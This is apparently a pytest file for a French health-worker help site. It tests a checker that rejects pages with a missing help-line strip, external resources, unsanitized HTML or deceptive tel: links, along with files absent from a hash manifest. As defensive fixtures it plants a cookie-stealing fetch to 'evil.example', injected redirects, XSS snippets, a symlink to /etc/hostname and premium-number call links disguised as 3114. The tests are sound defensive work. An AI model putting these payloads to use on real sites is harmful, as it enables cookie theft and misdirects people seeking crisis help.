"""The essentials check of a built site (soignants/checks/built_site.py, scripts/check_built_site.py):
it passes on the MkDocs build and fails, with a French line, on each way a page can lack them."""

from pathlib import Path
import subprocess
import sys

import pytest

from soignants.checks import built_site
from soignants.model import help_data
from soignants.pipeline.csp import policy

ROOT = Path(__file__).resolve().parent.parent

ENTRIES = help_data.strip_entries()
STRIP = "".join(f'<li><a class="ss-bandeau__lien" href="{e["tel"]}"><strong>{e["telephone"]}</strong> '
                f'<span>{e["nom_court"]}</span></a></li>' for e in ENTRIES)
HEAD = f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{policy([])}">'
GOOD_CONTENT = ('<h1>Titre</h1><p>Appelez le <a href="tel:3114">3114</a> ([Wu, 2000](#ref-Wu2000)).</p>'
                '<script src="../../assets/javascripts/annuaire.js" defer></script>'
                '<script type="application/json" id="q-donnees">{"a": 1}</script>')


def page(content=GOOD_CONTENT, head=HEAD, strip=STRIP, after_head=""):
    return (f"<!doctype html><html lang=\"fr\"><head>{head}{after_head}<title>t</title></head><body>"
            f'<div class="ss-bandeau"><ul>{strip}</ul></div>'
            f'<main><article class="md-content__inner md-typeset">{content}</article></main></body></html>')


def codes(html, require_csp=True):
    return [p.code for p in built_site.page_problems(html, "x/index.html", ENTRIES, require_csp)]


def test_a_good_page_passes():
    assert codes(page()) == []
    # A page that documents the markers shows them as code: not a marker left raw.
    assert codes(page(content="<p>Les numéros s'écrivent <code>[[aide:3114]]</code>.</p>")) == []


@pytest.mark.parametrize("html, code", [
    (page(strip=""), "bandeau-incomplet"),
    (page().replace('<div class="ss-bandeau">', '<div class="autre">'), "bandeau-absent"),
    (page(strip=STRIP.replace('href="tel:3114"', 'href="tel:0000"')), "bandeau-incomplet"),
    (page(content="<p>Appelez [[aide:3114]].</p>"), "marqueur-brut"),
    (page(content="<p>Selon [@Wu2000], rien.</p>"), "marqueur-brut"),
    (page(content="<!-- liste-fiches: cabinet -->"), "marqueur-brut"),
    (page(content="<!--questionnaire: phq-9-->"), "marqueur-brut"),
    (page(after_head='<script src="https://cdn.example.org/x.js"></script>'), "ressource-externe"),
    (page(after_head='<link rel="stylesheet" href="//fonts.example.org/a.css">'), "ressource-externe"),
    (page(content='<img src="https://pixel.example.org/p.gif" alt="">'), "ressource-externe"),
    (page(content="<script>alert(1)</script>"), "contenu-non-nettoye"),
    (page(content='<p onclick="x()">a</p>'), "contenu-non-nettoye"),
    (page(content='<p style="color:red">a</p>'), "contenu-non-nettoye"),
    (page(content='<a href=" javascript:x()">a</a>'), "contenu-non-nettoye"),
    (page(content="<iframe src=\"a.html\"></iframe>"), "contenu-non-nettoye"),
    (page(head='<meta charset="utf-8">'), "csp-absente"),
    (page(after_head="<title>Plainte d&amp;#39;un patient</title>"), "double-echappement"),
    (page(head='<meta charset="utf-8"><script>1</script>' + HEAD[len('<meta charset="utf-8">'):]), "csp-tardive"),
])
def test_each_missing_essential_is_reported(html, code):
    assert code in codes(html)


def test_the_csp_is_required_only_when_asked():
    assert codes(page(head='<meta charset="utf-8">'), require_csp=False) == []


def test_a_stylesheet_from_another_host_is_reported(tmp_path):
    (tmp_path / "index.html").write_text(page(), encoding="utf-8")
    (tmp_path / "site.css").write_text("@import 'https://fonts.example.org/x.css';", encoding="utf-8")
    count, problems = built_site.site_problems(tmp_path)
    assert count == 1 and [p.format() for p in problems] == [
        "site.css: charge une ressource d'un autre site : https://fonts.example.org/x.css (ressource-externe)"]


def test_a_link_out_of_the_sub_path_is_reported(tmp_path):
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "a" / "b" / "index.html").write_text(
        page(content='<a href="../../../feed.xml">flux</a>'), encoding="utf-8")
    _, problems = built_site.site_problems(tmp_path, base_url="http://127.0.0.1:8000/urps/")
    assert [p.code for p in problems] == ["lien-interne"]


def test_the_mkdocs_build_has_every_essential(site_root):
    count, problems = built_site.site_problems(site_root, require_csp=True)
    assert count > 50
    assert [p.format() for p in problems] == []


def test_the_command_says_in_french_what_is_missing(tmp_path):
    (tmp_path / "fiche").mkdir()
    (tmp_path / "fiche" / "index.html").write_text(page(strip="", content="<p>[[aide:3114]]</p>"), encoding="utf-8")
    result = subprocess.run([sys.executable, "scripts/check_built_site.py", str(tmp_path)], cwd=ROOT,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 1
    assert "fiche/index.html: le bandeau d'aide n'a pas le numéro 3114" in result.stdout
    assert "fiche/index.html: marqueur non développé [[aide:…]]" in result.stdout
    assert "ce site ne doit pas être publié" in result.stderr and "Traceback" not in result.stderr
    missing = subprocess.run([sys.executable, "scripts/check_built_site.py", str(tmp_path / "absent")], cwd=ROOT,
                             capture_output=True, text=True, timeout=120)
    assert missing.returncode == 2 and "construisez d'abord le site" in missing.stderr


# --- every call is a marker: a tel: link dials a number of data/aide.yml and shows its digits ----

def call_codes(link: str) -> list[str]:
    return [code for code in codes(page(content=f"<p>Appelez {link}.</p>")) if code.startswith("appel-")]


@pytest.mark.parametrize("link, code", [
    # The text says 3114 (the national suicide prevention number), the target is a premium number.
    ('<a href="tel:+33899000000">3114</a>', "appel-inconnu"),
    ('<a href="tel:0899000000">3114</a>', "appel-inconnu"),
    ('<a href="sms:3114">3114</a>', "appel-inconnu"),
    ('<a href=" TEL:+33899000000 ">3114</a>', "appel-inconnu"),
    # A number of data/aide.yml, but not the one the text shows.
    ('<a href="tel:15">3114</a>', "appel-trompeur"),
    ('<a href="tel:3114">31<b>1</b>5</a>', "appel-trompeur"),
    ('<a href="tel:3114">３１１５</a>', "appel-trompeur"),
    ('<a href="tel:3114">3114<span>0</span></a>', "appel-trompeur"),
])
def test_a_call_link_that_lies_is_reported(link, code):
    assert call_codes(link) == [code]


@pytest.mark.parametrize("link", [
    '<a href="tel:3114">3114</a>',
    '<a href="tel:3114">３１１４</a>',  # full-width digits: the same number, read as the reader sees it
    '<a href="tel:+33805232336">0\u2009805\u202f23\u00a023 36</a>',  # every kind of space
    '<a href="tel:+33805232336">0 805 <b>23</b> 23 36</a>',  # tags inside the link
    '<a href="tel:+33-8.05(23)23 36">0 805 23 23 36</a>',  # visual separators in the address
])
def test_a_call_link_that_tells_the_truth_passes(link):
    assert call_codes(link) == []


def test_the_built_site_with_a_lying_call_link_fails(tmp_path):
    (tmp_path / "fiche").mkdir()
    (tmp_path / "fiche" / "index.html").write_text(
        page(content='<p>Appelez le <a href="tel:+33899000000">3114</a>.</p>'), encoding="utf-8")
    count, problems = built_site.site_problems(tmp_path)
    assert count == 1 and [p.code for p in problems] == ["appel-inconnu"]
    assert "n'est pas dans data/aide.yml" in problems[0].message and "3114" in problems[0].message


# --- the asset manifest: every script, style sheet, page and worker is the project's, by hash ----

def test_the_manifest_lists_every_script_style_and_page_of_the_build(site_root):
    import hashlib
    import json
    import rjsmin
    from soignants.checks import asset_manifest
    manifest = json.loads((site_root / asset_manifest.MANIFEST_NAME).read_text(encoding="utf-8"))
    listed = set(manifest["fichiers"]) | set(manifest["pages"])
    active = [p.relative_to(site_root).as_posix() for p in site_root.rglob("*")
              if p.suffix in (".js", ".css", ".html", ".svg", ".xml", ".pagefind")]
    assert active and [name for name in active if name not in listed] == []
    # Ours as the build publishes them (minified), the theme's as the pinned package ships them.
    source = (ROOT / "overrides" / "assets" / "javascripts" / "quitter.js").read_text(encoding="utf-8")
    assert manifest["fichiers"]["assets/javascripts/quitter.js"]["sha256"] == \
        hashlib.sha256(rjsmin.jsmin(source).encode("utf-8")).hexdigest()
    bundle = next(name for name in manifest["fichiers"] if name.startswith("assets/javascripts/bundle."))
    assert manifest["fichiers"][bundle]["origine"].startswith("mkdocs-material/")
    assert manifest["fichiers"]["pagefind/pagefind.js"]["origine"] == "Pagefind"
    assert manifest["pages"]["fiches/soignant/addictions/index.html"] == "fiches/soignant/addictions.md"


@pytest.fixture
def copied_site(site_root, tmp_path):
    import shutil
    copy = tmp_path / "site"
    shutil.copytree(site_root, copy, symlinks=True)
    return copy


SW = "self.addEventListener('fetch', e => e.respondWith(fetch(e.request)));\n"


def _break(site, how):
    if how == "script":
        (site / "assets" / "javascripts" / "espion.js").write_text("fetch('//evil.example/?'+document.cookie)\n")
    elif how == "style":
        (site / "assets" / "stylesheets" / "faux-bandeau.css").write_text(".ss-bandeau{display:none}\n")
    elif how == "worker":
        (site / "sw.js").write_text(SW)
    elif how == "module":
        (site / "images").mkdir(exist_ok=True)
        (site / "images" / "x.wasm").write_bytes(b"\x00asm\x01\x00\x00\x00")
    elif how == "manifest":
        (site / "app.webmanifest").write_text('{"name": "Soigner les soignants", "start_url": "//evil.example/"}')
    elif how == "changed":
        (site / "assets" / "javascripts" / "quitter.js").write_text("location='//evil.example/'\n")
    elif how == "theme-replaced":
        bundle = next((site / "assets" / "javascripts").glob("bundle.*.min.js"))
        bundle.write_text(bundle.read_text(encoding="utf-8") + "\n;fetch('//evil.example/')\n")
    elif how == "symlink":
        (site / "images").mkdir(exist_ok=True)
        (site / "images" / "photo.png").symlink_to("/etc/hostname")
    elif how == "page":
        (site / "fiches" / "fausse").mkdir()
        (site / "fiches" / "fausse" / "index.html").write_text((site / "index.html").read_text(encoding="utf-8"))
    elif how == "svg":
        (site / "images").mkdir(exist_ok=True)
        (site / "images" / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    elif how == "xml":
        (site / "plan.xml").write_text('<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></x:html>')


@pytest.mark.parametrize("how, path, code", [
    ("script", "assets/javascripts/espion.js", "fichier-inconnu"),
    ("style", "assets/stylesheets/faux-bandeau.css", "fichier-inconnu"),
    ("worker", "sw.js", "fichier-inconnu"),
    ("module", "images/x.wasm", "fichier-inconnu"),
    ("manifest", "app.webmanifest", "fichier-inconnu"),
    ("changed", "assets/javascripts/quitter.js", "fichier-modifie"),
    ("theme-replaced", None, "fichier-modifie"),
    ("symlink", "images/photo.png", "lien-symbolique"),
    ("page", "fiches/fausse/index.html", "page-inconnue"),
    ("svg", "images/logo.svg", "fichier-inconnu"),
    ("xml", "plan.xml", "fichier-inconnu"),
])
def test_a_site_with_a_file_that_is_not_the_projects_fails(copied_site, how, path, code):
    from soignants.checks import asset_manifest
    _break(copied_site, how)
    found = asset_manifest.problems(copied_site)
    assert [f.code for f in found] == [code], found
    assert path is None or found[0].path == path


def test_a_worker_registered_by_the_build_passes_and_an_unknown_one_fails(copied_site):
    """How a service worker of ours is allowed: the code that writes it registers it
    (pipeline/asset_manifest.Manifest.add_generated(..., worker=True))."""
    import json
    from soignants.checks import asset_manifest
    from soignants.pipeline.asset_manifest import Manifest
    (copied_site / "sw.js").write_text(SW)
    manifest_path = copied_site / asset_manifest.MANIFEST_NAME
    document = json.loads(manifest_path.read_text(encoding="utf-8"))
    ours = Manifest(files=document["fichiers"], pages=document["pages"], workers=document["service_workers"])
    ours.add_generated(copied_site, copied_site / "sw.js", "service worker (construction)", worker=True)
    ours.write(copied_site)
    assert asset_manifest.problems(copied_site) == []
    (copied_site / "sw.js").write_text(SW.replace("fetch(e.request)", "fetch('//evil.example/')"))
    assert [f.code for f in asset_manifest.problems(copied_site)] == ["fichier-modifie"]


def test_the_command_fails_a_site_with_an_unknown_script_in_french(copied_site):
    _break(copied_site, "script")
    result = subprocess.run([sys.executable, "scripts/check_built_site.py", str(copied_site), "--csp"], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 1, result.stdout
    assert ("assets/javascripts/espion.js: service worker ou script qui n'est pas un fichier du projet"
            in result.stdout), result.stdout
    assert "Traceback" not in result.stderr


def test_a_site_built_without_our_hook_is_told_it_has_no_manifest(tmp_path):
    (tmp_path / "index.html").write_text(page(), encoding="utf-8")
    _, problems = built_site.site_problems(tmp_path, require_csp=True)
    assert [p.code for p in problems] == ["manifeste-absent"]
    assert built_site.site_problems(tmp_path, require_csp=False)[1] == []
